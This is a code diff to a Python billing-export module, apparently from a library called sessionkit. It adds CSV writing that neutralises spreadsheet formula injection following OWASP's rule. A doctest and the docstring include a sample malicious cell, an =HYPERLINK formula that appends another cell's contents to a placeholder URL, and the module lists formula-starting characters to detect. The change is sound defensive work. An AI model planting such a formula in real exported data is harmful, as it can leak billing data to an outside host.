@@ -31,15 +31,31 @@ Some objects expand to several rows or get a shape of their own:
 (Decimal('140.00'), 'F41.1', 'F32.1', datetime.date(2026, 3, 2))
 >>> row["place_of_service"], row["bill_to"], row["resubmission.frequency"]
 ('11', 'automatic', '1')
+
+Records keep values as they are, for data frames. To write them as CSV use
+:func:`write_csv`: it neutralises every cell a spreadsheet would run as a
+formula (OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
+a carriage return gets a leading ``'``), as a calendar UID such as
+``=HYPERLINK(...)`` would otherwise become a live formula in the biller's
+spreadsheet. ``DataFrame.to_csv`` does not do this.
+
+>>> import io
+>>> out = io.StringIO()
+>>> write_csv([{"key": '=HYPERLINK("http://x/?"&B2,"open")', "charge": Decimal("-1.50")}], out)
+>>> print(out.getvalue(), end="")
+key,charge
+"'=HYPERLINK(""http://x/?""&B2,""open"")",'-1.50
 """
 
 from __future__ import annotations
 
+import csv
 import enum
+import io
 from collections.abc import Iterable, Iterator, Mapping
 from datetime import date, datetime, time
 from decimal import Decimal
-from typing import Any
+from typing import IO, Any
 
 import attrs
 
@@ -50,7 +66,7 @@ from sessionkit.importing import ImportReport
 from sessionkit.money import Money
 from sessionkit.readiness import Finding, ReadinessReport
 
-__all__ = ["columns", "flatten", "to_records"]
+__all__ = ["columns", "csv_cell", "flatten", "to_records", "write_csv"]
 
 Record = dict[str, object]
 
@@ -174,3 +190,50 @@ def columns(records: Iterable[Mapping[str, object]]) -> list[str]:
         for key in record:
             seen.setdefault(key, None)
     return list(seen)
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP CSV injection)."""
+
+
+def csv_cell(value: object) -> str:
+    """One record value as CSV text that no spreadsheet runs as a formula.
+
+    ``None`` is empty, booleans ``true``/``false``, dates ISO; text starting with
+    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``
+    (so a negative number is written ``'-1.50``: sessionkit amounts are never negative).
+
+    >>> csv_cell("=1+1"), csv_cell("@SUM(A1)"), csv_cell("Ada"), csv_cell(None), csv_cell(True)
+    ("'=1+1", "'@SUM(A1)", 'Ada', '', 'true')
+    """
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    text = value.isoformat() if isinstance(value, (date, datetime, time)) else str(value)
+    return f"'{text}" if text.startswith(_FORMULA_START) else text
+
+
+def write_csv(records: Iterable[Mapping[str, object]], stream: IO[str]) -> None:
+    """Write ``records`` as CSV (a header of :func:`columns`, then one row each), cells neutralised.
+
+    Every CSV sessionkit writes goes through here (``sessionkit export --format csv``).
+    Rows end in ``\n``; a cell holding a line break or carriage return is quoted.
+    """
+    rows = list(records)
+    header = columns(rows)
+    # Rows end in "\n"; with that terminator the csv module would leave a cell holding a
+    # lone "\r" unquoted (and a reader would split the row there): decide quoting with
+    # "\r\n", then end the row with "\n".
+    line = io.StringIO(newline="")
+    writer = csv.writer(line, lineterminator="\r\n")
+
+    def emit(cells: list[str]) -> None:
+        line.seek(0)
+        line.truncate()
+        writer.writerow(cells)
+        stream.write(line.getvalue()[:-2] + "\n")
+
+    emit([csv_cell(name) for name in header])
+    for record in rows:
+        emit([csv_cell(record.get(key)) for key in header])
